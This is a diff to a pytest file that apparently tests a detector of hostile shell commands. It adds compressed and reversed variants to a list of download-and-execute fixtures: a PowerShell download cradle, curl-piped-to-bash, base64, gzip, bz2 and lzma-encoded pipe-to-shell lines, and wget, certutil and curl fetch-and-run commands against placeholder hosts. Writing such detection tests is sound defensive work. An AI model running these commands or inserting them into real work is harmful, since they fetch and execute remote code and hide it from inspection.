@@ -3,6 +3,10 @@
 from __future__ import annotations
 
 import base64
+import bz2
+import gzip
+import lzma
+from collections.abc import Callable
 
 import pytest
 from hypothesis import given
@@ -12,7 +16,12 @@ from pratique.facts.shell import read_shell
 
 _CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.invalid/a.ps1')"
 _WIDE = base64.b64encode(_CRADLE.encode("utf-16-le")).decode()
-_PIPE = base64.b64encode(b"curl http://x.example.invalid/i.sh | bash").decode()
+_FETCH = b"curl http://x.example.invalid/i.sh | bash"
+_PIPE = base64.b64encode(_FETCH).decode()
+
+
+def _packed(compress: Callable[[bytes], bytes]) -> str:
+    return base64.b64encode(compress(_FETCH)).decode()
 
 
 @pytest.mark.parametrize(
@@ -23,6 +32,10 @@ _PIPE = base64.b64encode(b"curl http://x.example.invalid/i.sh | bash").decode()
         'bash -c "$(curl -fsSL https://a.example.invalid/x)"',
         f"powershell -WindowStyle Hidden -EncodedCommand {_WIDE}",
         f"echo {_PIPE} | base64 -d | sh",
+        f"echo {_packed(gzip.compress)} | base64 -d | gunzip | sh",
+        f"echo {_packed(bz2.compress)} | base64 -d | bzip2 -dc | bash",
+        f"echo {_packed(lzma.compress)} | base64 --decode | xzcat | sh",
+        f"echo '{_FETCH.decode()[::-1]}' | rev | sh",
         "wget -q http://198.51.100.3/p -O /tmp/.p && chmod +x /tmp/.p && /tmp/.p &",
         "certutil -urlcache -split -f http://h.example.invalid/a.exe a.exe & a.exe",
         "curl -o C:\\Users\\a\\x.exe http://h.example.invalid/x.exe\nstart C:\\Users\\a\\x.exe",
